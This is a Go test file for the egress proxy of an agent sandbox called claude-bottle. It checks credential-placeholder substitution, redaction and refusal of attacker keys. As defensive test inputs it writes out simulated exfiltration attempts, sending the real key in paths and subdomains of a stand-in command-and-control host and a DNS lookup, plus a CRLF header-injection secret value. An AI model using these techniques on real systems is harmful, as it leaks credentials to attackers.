package egress_test

import (
	"encoding/base64"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/claude-bottle/claude-bottle/internal/audit"
	"github.com/claude-bottle/claude-bottle/internal/egress"
	"github.com/claude-bottle/claude-bottle/internal/policy"
	"github.com/claude-bottle/claude-bottle/internal/secret"
)

func basic(user, pass string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass))
}

func TestC11ThePlaceholderIsObligatoryAndNoOtherKeyPasses(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	const attacker = "sk-attacker-9999"
	for name, h := range map[string]http.Header{
		"no key":                       {},
		"attacker's x-api-key":         {"X-Api-Key": {attacker}},
		"attacker's Authorization":     {"Authorization": {"Bearer " + attacker}},
		"placeholder as a part":        {"X-Api-Key": {placeholder + "x"}},
		"placeholder in another field": {"X-Other": {placeholder}},
		"placeholder without scheme":   {"Authorization": {placeholder}},
	} {
		res, body := do(t, w.client(), "POST", "https://llm.test/v1/files", h)
		refused(t, res, body, "does not carry this bottle's placeholder")
		if strings.Contains(body, attacker) {
			t.Errorf("%s: the denial repeats the key", name)
		}
	}
	if n := w.ok.requests(); n > 0 {
		t.Fatalf("%d requests went upstream", n)
	}
	for name, h := range map[string]http.Header{
		"Bearer":         {"Authorization": {"Bearer " + placeholder}},
		"token":          {"Authorization": {"token " + placeholder}},
		"Basic":          {"Authorization": {basic("x", placeholder)}},
		"x-api-key":      {"X-Api-Key": {placeholder}},
		"both keys":      {"Authorization": {"Bearer " + placeholder}, "X-Api-Key": {attacker}, "Api-Key": {attacker}},
		"two identities": {"Authorization": {"Bearer " + attacker, "Bearer " + placeholder}},
		"cookie too":     {"Authorization": {"Bearer " + placeholder}, "Cookie": {"k=" + placeholder}},
	} {
		if res, body := do(t, w.client(), "POST", "https://llm.test/v1/messages", h); res.StatusCode != 200 {
			t.Errorf("benign %s: %d %q", name, res.StatusCode, body)
		}
	}
	seen := w.ok.text()
	if strings.Contains(seen, attacker) || strings.Contains(seen, placeholder) {
		t.Errorf("the upstream saw the bottle's keys:\n%s", seen)
	}
	if got := strings.Count(seen, "Authorization: Bearer "+realKey); got != 7 {
		t.Errorf("the credential arrived %d times, want 7", got)
	}
}

func TestC12D03ThePlaceholderGoesNowhereElse(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	for name, h := range map[string]http.Header{
		"Authorization": {"Authorization": {"Bearer " + placeholder}},
		"x-api-key":     {"X-Api-Key": {placeholder}},
		"Basic":         {"Authorization": {basic(placeholder, "")}},
		"any header":    {"X-Debug": {"env=" + placeholder}},
		"cookie":        {"Cookie": {"a=" + placeholder}},
	} {
		res, body := do(t, w.client(), "GET", "https://ok.test/", h)
		refused(t, res, body, "where that credential does not belong")
		if strings.Contains(body, placeholder) {
			t.Errorf("%s: the denial repeats it", name)
		}
	}
	res, body := get(t, w.client(), "https://ok.test/?k="+placeholder)
	refused(t, res, body, "does not belong")
	res, body = do(t, w.client(), "GET", "https://llm.test/"+placeholder, http.Header{"X-Api-Key": {placeholder}})
	refused(t, res, body, "does not belong")
	res, body = do(t, w.client(), "GET", "http://c2.test/", http.Header{"X-Api-Key": {placeholder}})
	refused(t, res, body, "no rule")
	if head, _ := w.connectTo("ok.test:443", "Proxy-Authorization: Bearer "+placeholder+"\r\n"); !strings.HasPrefix(head, "HTTP/1.1 403") {
		t.Errorf("CONNECT header: %q", head)
	}
	w.untouched()
	// On a route without a credential the agent's own are its own.
	if res, _ := do(t, w.client(), "GET", "https://ok.test/", http.Header{"Authorization": {"Bearer mine"}}); res.StatusCode != 200 {
		t.Errorf("benign: %d", res.StatusCode)
	}
	if !strings.Contains(w.ok.text(), "Authorization: Bearer mine") {
		t.Error("the agent's own Authorization did not arrive")
	}
}

func TestD04AnotherBottlesPlaceholderIsJustAWrongKey(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	res, body := do(t, w.client(), "GET", "https://llm.test/", http.Header{"X-Api-Key": {"bottle-placeholder-0002"}})
	refused(t, res, body, "placeholder")
	w.untouched()
}

func TestC09TheCredentialNeverComesBack(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	for _, path := range []string{"/headers", "/hints"} {
		res, _ := do(t, w.client(), "GET", "https://llm.test"+path, http.Header{"X-Api-Key": {placeholder}})
		for _, h := range []http.Header{res.Header, res.Trailer} {
			for k, v := range h {
				if strings.Contains(strings.Join(v, " "), realKey) {
					t.Errorf("%s: %s: %q", path, k, v)
				}
			}
		}
		if path == "/headers" && (res.Header.Get("X-Echo-Authorization") != "Bearer [redacted]" || res.Trailer.Get("X-Late") != "Bearer [redacted]") {
			t.Errorf("echo: %v, trailer %v", res.Header, res.Trailer)
		}
		if res.Header.Get("Alt-Svc") != "" {
			t.Error("Alt-Svc came through")
		}
	}
}

func TestC09TraceIsRefusedWhereACredentialIsInjected(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	res, body := do(t, w.client(), "TRACE", "https://llm.test/", http.Header{"X-Api-Key": {placeholder}})
	refused(t, res, body, "TRACE is refused")
	w.untouched()
}

func TestC09TheCredentialNeverComesBackFromAWebSocketsHandshake(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	c, err := w.tunnel("llm.test:443", "llm.test")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.WriteString(c, "GET /ws HTTP/1.1\r\nHost: llm.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"+
		"Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.sk-attacker\r\nX-Api-Key: "+placeholder+"\r\n\r\n")
	head := readHead(t, c)
	if !strings.HasPrefix(head, "HTTP/1.1 101") || !strings.Contains(head, "X-Echo: Bearer [redacted]") {
		t.Errorf("%q", head)
	}
	if seen := w.ok.text(); strings.Contains(seen, "attacker") || !strings.Contains(seen, "Sec-Websocket-Protocol: realtime\r\n") {
		t.Errorf("the upstream saw\n%s", seen)
	}
}

func TestD08NoEventHoldsACredential(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	_, body := get(t, w.client(), "http://c2.test/x/"+realKey+"/y")
	_, _ = get(t, w.client(), "http://ok.test/%73"+realKey[1:])
	_, _ = get(t, w.client(), "http://"+strings.ToLower(realKey)+".c2.test/")
	_, _ = w.connectTo(realKey + ".c2.test:443")
	w.ask(realKey+".c2.test.", 1)
	w.event("dns", func(e audit.Event) bool { return e.Kind == audit.KindDNS })
	w.event("ok", func(e audit.Event) bool { return e.Host == "ok.test" && e.Path == "/[redacted]" })
	w.event("each of them", func(audit.Event) bool { return len(w.events) >= 5 })
	if strings.Contains(body, realKey) {
		t.Errorf("the denial repeats it: %s", body)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, e := range w.events {
		if all := strings.ToLower(e.Host + e.Path + e.Why + e.Text); strings.Contains(all, realKey) {
			t.Errorf("%+v", e)
		}
	}
}

func TestCredentialsAreWrittenInTheirScheme(t *testing.T) {
	t.Parallel()
	for scheme, want := range map[string]string{
		policy.SchemeBearer: "Authorization: Bearer " + realKey,
		policy.SchemeToken:  "Authorization: token " + realKey,
		policy.SchemeBasic:  "Authorization: Basic " + realKey,
		policy.SchemeAPIKey: "X-Api-Key: " + realKey,
	} {
		w := newWorld(t, []policy.Route{route(t, "llm", "llm.test", auth(scheme))})
		_, _ = do(t, w.client(), "GET", "https://llm.test/", http.Header{"X-Api-Key": {placeholder}})
		if !strings.Contains(w.ok.text(), want) {
			t.Errorf("%s: the upstream saw\n%s", scheme, w.ok.text())
		}
	}
}

func TestAnEngineWithoutItsCredentialsIsNotMade(t *testing.T) {
	t.Parallel()
	p, err := policy.Compile(standard(t))
	if err != nil {
		t.Fatal(err)
	}
	for name, secrets := range map[string]map[string]secret.Value{
		"missing":       nil,
		"empty":         {"KEY": secret.New("")},
		"with line end": {"KEY": secret.New(realKey + "\r\nX: y")},
	} {
		_, err := egress.New(egress.Config{Policy: p, Authority: newAuthority(t), Secrets: secrets})
		if err == nil || strings.Contains(err.Error(), realKey) {
			t.Errorf("%s: %v", name, err)
		}
	}
}
